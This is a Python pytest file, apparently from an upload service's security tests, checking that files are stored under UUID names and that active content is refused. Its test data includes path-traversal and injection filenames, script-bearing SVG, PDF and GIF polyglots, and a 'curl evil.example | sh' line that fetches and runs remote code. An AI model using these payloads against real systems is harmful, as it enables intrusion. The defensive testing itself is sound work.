"""C6: whatever a file is called and whatever it claims to be, it lies under an id and runs nowhere."""

from pathlib import Path
from uuid import UUID

import pytest
from httpx import AsyncClient

from shared.testing import Issuer
from tests.service.intake.test_files import LEDGER, upload

NAMES = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "CON",
    "a" * 300 + ".csv",
    'a"; filename="b.csv',
    "a\u202egnp.exe",
    "a\u0085b\u2028c.csv",
    "file.csv%00.html",
    " .csv",
    "/",
    "{{7*7}}.csv",
)
GIF = b"GIF89a/*\x00\x00*/=1;alert(1)//"
CONTENTS = {
    "a drawing with a script": b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "a page": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    "a page called PDF": b"<html><body onload=alert(1)>%PDF-1.7",
    "a picture that is a script": GIF,
    "a PDF with a script": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    "a program": b"MZ\x90\x00" + b"\0" * 100,
    "a shell script": b"#!/bin/sh\ncurl evil.example | sh\n",
}


@pytest.fixture
def headers(issuer: Issuer) -> dict[str, str]:
    """A controller."""
    return issuer.headers("controller")


def files_in(folder: Path) -> set[Path]:
    """Every file below."""
    return {path for path in folder.rglob("*") if path.is_file()}


def is_id(text: str) -> bool:
    """Whether the text is the id of something."""
    try:
        UUID(text.partition(".")[0])
    except ValueError:
        return False
    return True


@pytest.mark.attack("C6")
@pytest.mark.asvs("5.3.2", "5.4.1")
@pytest.mark.parametrize("name", NAMES)
async def test_a_file_lies_under_an_id_whatever_it_is_called(
    client: AsyncClient, headers: dict[str, str], tmp_path: Path, name: str
) -> None:
    before = files_in(tmp_path)

    shown = await upload(client, headers, LEDGER.encode(), name)

    kept = files_in(tmp_path) - before
    assert shown["status"] == "done"
    assert kept
    assert all(is_id(path.name) and tmp_path in path.parents for path in kept)
    assert 0 < len(shown["name"]) <= 255
    assert not any(ord(letter) < 32 or letter in "/\\\u202e\u2028\u0085" for letter in shown["name"])


@pytest.mark.attack("C6")
@pytest.mark.asvs("1.3.4", "5.2.2", "5.3.1")
@pytest.mark.parametrize("kind", CONTENTS)
@pytest.mark.parametrize("name", ["x.csv", "x.svg", "x.pdf"])
async def test_active_content_is_refused_by_what_it_is(
    client: AsyncClient, headers: dict[str, str], kind: str, name: str
) -> None:
    shown = await upload(client, headers, CONTENTS[kind], name)

    assert (shown["status"], shown["accepted"]) == ("rejected", 0)
    assert shown["reason"]["code"] not in {"", "internal-error"}
